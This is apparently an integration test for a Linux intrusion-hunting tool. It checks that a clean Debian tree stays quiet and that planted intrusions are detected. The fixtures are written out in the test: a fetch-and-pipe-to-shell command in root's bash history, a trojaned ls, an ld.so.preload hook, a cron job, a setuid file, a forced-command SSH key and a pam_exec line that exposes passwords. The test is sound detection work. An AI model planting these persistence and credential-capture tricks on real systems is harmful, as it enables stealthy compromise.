//! The file-based hunts on a clean Debian root built by debootstrap
//! (scripts/debian-root, cached under /var/cache/hound-test/): no high or
//! critical finding. The same tree with planted intrusions (in an overlay,
//! so the cached tree stays clean) reports each of them.

use crate::common::run_json_own_case;
use crate::require_root;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOQQPyfHDMmr+z1AZio7YZvrvzzMUXVZiPTI7JdjFDh2 hx";

/// The cached clean tree, or `None` with the reason printed.
fn debian_root() -> Option<PathBuf> {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/debian-root");
    let out = Command::new(&script).output().unwrap();
    if !out.status.success() {
        eprintln!(
            "SKIP debian: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        );
        return None;
    }
    Some(PathBuf::from(String::from_utf8_lossy(&out.stdout).trim()))
}

/// (hunt, severity, title, evidence) of every finding row.
fn findings(root: &Path) -> Vec<(String, String, String, String)> {
    let mut all = Vec::new();
    for hunt in ["triage", "persistence", "rootkit"] {
        let root = format!("root={}", root.display());
        let (status, lines) = run_json_own_case(["run", hunt, "-p", &root]);
        let code = status.code().unwrap_or(-1);
        assert!(code == 0 || code == 1, "{hunt}: exit {code}");
        for v in lines {
            if let (Some(s), Some(t)) = (v["severity"].as_str(), v["title"].as_str()) {
                let ev = v["evidence"].as_str().unwrap_or("").to_string();
                all.push((hunt.to_string(), s.to_string(), t.to_string(), ev));
            }
        }
    }
    all
}

/// An overlay of the clean tree (a copy where overlayfs is missing),
/// unmounted and removed on drop.
struct Planted {
    dir: tempfile::TempDir,
    mounted: bool,
}

impl Planted {
    fn new(lower: &Path) -> Planted {
        let dir = tempfile::tempdir().unwrap();
        for d in ["upper", "work", "root"] {
            std::fs::create_dir(dir.path().join(d)).unwrap();
        }
        let p = |d: &str| dir.path().join(d).display().to_string();
        let ok = Command::new("mount")
            .args(["-t", "overlay", "overlay", "-o"])
            .arg(format!(
                "lowerdir={},upperdir={},workdir={}",
                lower.display(),
                p("upper"),
                p("work")
            ))
            .arg(p("root"))
            .status()
            .is_ok_and(|s| s.success());
        if !ok {
            eprintln!("debian: overlayfs unavailable, copying the tree");
            let st = Command::new("cp")
                .arg("-a")
                .arg(format!("{}/.", lower.display()))
                .arg(p("root"))
                .status()
                .unwrap();
            assert!(st.success());
        }
        Planted { dir, mounted: ok }
    }
    fn root(&self) -> PathBuf {
        self.dir.path().join("root")
    }
    fn write(&self, rel: &str, body: &str, mode: u32) {
        let p = self.root().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        let _ = std::fs::remove_file(&p);
        std::fs::write(&p, body).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    fn append(&self, rel: &str, line: &str) {
        let p = self.root().join(rel);
        let mut s = std::fs::read_to_string(&p).unwrap();
        s.push_str(line);
        std::fs::write(&p, s).unwrap();
    }
}

impl Drop for Planted {
    fn drop(&mut self) {
        if self.mounted {
            let _ = Command::new("umount").arg(self.root()).status();
        }
    }
}

#[test]
fn clean_debian_is_quiet_and_planted_intrusions_are_reported() {
    require_root!();
    let Some(tree) = debian_root() else { return };
    let clean = findings(&tree);
    let loud: Vec<_> = clean
        .iter()
        .filter(|f| f.1 == "high" || f.1 == "critical")
        .collect();
    assert!(
        loud.is_empty(),
        "clean Debian root {}: {loud:#?}",
        tree.display()
    );

    let p = Planted::new(&tree);
    p.write(
        "usr/bin/ls",
        "#!/bin/sh\n/tmp/.hx/ls.real \"$@\" | grep -v hx\n",
        0o755,
    );
    p.write("etc/ld.so.preload", "/tmp/.hx/libhx.so\n", 0o644);
    p.write("etc/cron.d/hx", "* * * * * root /tmp/x\n", 0o644);
    p.write("usr/local/bin/hxsu", "\x7fELF-not-really\n", 0o4755);
    p.write(
        "root/.ssh/authorized_keys",
        &format!("command=\"/tmp/x\" {KEY}\n"),
        0o600,
    );
    p.append(
        "etc/pam.d/common-auth",
        "auth optional pam_exec.so quiet expose_authtok /tmp/x\n",
    );
    p.write(
        "root/.bash_history",
        "ls\ncurl -s http://198.51.100.9/i | sh\n",
        0o600,
    );
    let mut auth = String::new();
    for i in 0..12 {
        auth += &format!("2026-11-30T10:00:{i:02}.000000+00:00 deb sshd[{}]: Failed password for root from 203.0.113.77 port {} ssh2\n", 100 + i, 40000 + i);
    }
    auth += "2026-11-30T10:01:00.000000+00:00 deb sshd[200]: Accepted password for root from 203.0.113.77 port 41000 ssh2\n";
    p.write("var/log/auth.log", &auth, 0o640);
    let got = findings(&p.root());
    let reported = |needle: &str| {
        got.iter()
            .any(|(_, sev, t, ev)| sev != "info" && (t.contains(needle) || ev.contains(needle)))
    };
    let missing: Vec<&str> = [
        "bin/ls (coreutils)", // dpkg lists it as /bin/ls (merged /usr)
        "libhx.so",
        "/etc/cron.d/hx",
        "/usr/local/bin/hxsu",
        "forced command for root",
        "pam_exec",
        "198.51.100.9/i | sh",
        "Login after brute force from 203.0.113.77",
    ]
    .into_iter()
    .filter(|n| !reported(n))
    .collect();
    assert!(
        missing.is_empty(),
        "not reported: {missing:?}\nfindings: {got:#?}"
    );
}
